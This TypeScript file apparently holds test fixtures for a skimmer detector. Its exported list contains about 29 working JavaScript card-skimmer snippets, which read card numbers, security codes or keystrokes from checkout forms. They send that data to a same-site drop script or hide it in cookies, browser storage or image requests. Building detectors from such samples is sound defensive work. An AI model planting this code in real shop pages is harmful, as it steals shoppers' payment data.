// Skimmers that pick fields by what they are and leave the data on the shop's own site, where someone fetches it later.

const drop = '/media/tmp/u.php'
const post = `const x = new XMLHttpRequest(); x.open("POST", "${drop}"); x.send(d)`
const onSubmit = (code: string) =>
  `document.forms[0].addEventListener("submit", (e) => { let d = ""; ${code}; ${post} })`
const pick = (test: string) => onSubmit(`for (const i of e.target.elements) if (${test}) d += i.value`)
const sent = (code: string) =>
  `document.forms[0].addEventListener("submit", (e) => { let d = ""; for (const i of e.target.elements) if (i.name === "x1") d += i.value; ${code} })`

/** `holds` is what a field that the report names holds. */
export const sameSite: [name: string, code: string, holds?: string][] = [
  ['by name', pick('i.name === "cardnumber"'), 'Card number'],
  ['by id', pick('i.id === "cc-number"'), 'Card number'],
  ['by a part of its id', pick('i.id.indexOf("cvv") >= 0'), 'Card security code'],
  ['by a pattern', pick('/card|cvc/i.test(i.name)'), 'Card security code'],
  ['by one of several names', pick('["cardnumber", "expiry"].includes(i.name)'), 'Card number'],
  ['by type', pick('i.type === "tel"')],
  ['by length', pick('i.maxLength === 19')],
  ['by autocomplete', pick('i.autocomplete === "cc-number"'), 'Card number'],
  ['by an attribute', pick('i.getAttribute("autocomplete") === "cc-csc"'), 'Card security code'],
  [
    'by a case',
    onSubmit('for (const i of e.target.elements) switch (i.name) { case "ccnum": d += i.value }'),
    'Card number',
  ],
  [
    'by find',
    onSubmit('d = [...e.target.elements].find((i) => i.name === "cardnumber").value'),
    'Card number',
  ],
  [
    'by filter',
    onSubmit('d = [...e.target.elements].filter((i) => i.id.startsWith("cc_")).map((i) => i.value).join()'),
  ],
  [
    'by a destructured name',
    onSubmit('for (const { name, value } of e.target.elements) if (name === "cardnumber") d += value'),
  ],
  [
    'by querySelectorAll and a pattern',
    onSubmit(
      'document.querySelectorAll("input").forEach((i) => { if (/\\bpan\\b|cvv/.test(i.id)) d += i.value })',
    ),
  ],
  [
    'by getElementsByTagName',
    onSubmit(
      'var l = document.getElementsByTagName("input"); for (var n = 0; n < l.length; n++) if (l[n].name == "cc") d += l[n].value',
    ),
  ],
  [
    'by jQuery',
    `jQuery("form").on("submit", function () { var d = ""; jQuery(this).find("input").each(function () { if (this.name === "cc_number") d += jQuery(this).val() }); jQuery.post("${drop}", { d: d }) })`,
  ],
  ['by fetch', sent(`fetch("${drop}", { method: "POST", body: d })`)],
  ['by a beacon', sent(`navigator.sendBeacon("${drop}", d)`)],
  ['by an image', sent(`new Image().src = "/media/p.gif?" + d`)],
  ['by the picture of an element', sent(`document.querySelector("#logo").src = "/media/p.gif?" + d`)],
  ['by a cookie', sent('document.cookie = "_u=" + btoa(d)')],
  ['by a store', sent('localStorage.setItem("_u", btoa(d))')],
  ['by a property of a store', sent('sessionStorage._u = d')],
  [
    'by a hidden form',
    sent(`const f = document.createElement("form"); f.action = "${drop}"; f.append(d); f.submit()`),
  ],
  [
    'by a database',
    sent(
      'indexedDB.open("u").onsuccess = (o) => o.target.result.transaction("u", "readwrite").objectStore("u").put(d)',
    ),
  ],
  [
    'by a key logger',
    `let s = ""; document.addEventListener("keydown", (e) => { s += e.key; if (s.length > 20) fetch("${drop}", { method: "POST", body: s }) })`,
  ],
  [
    'by the data of the form',
    `document.forms[0].addEventListener("formdata", ({ formData }) => { const o = {}; formData.forEach((v, k) => (o[k] = v)); fetch("${drop}", { body: JSON.stringify(o) }) })`,
  ],
  [
    'by a helper',
    'const get = (i, k) => i[k]; document.forms[0].addEventListener("submit", (e) => { for (const i of e.target.elements) document.cookie = "a=" + get(i, "value") })',
  ],
  ['by a field of the form itself', sent('e.target.elements.note.value = d')],
]
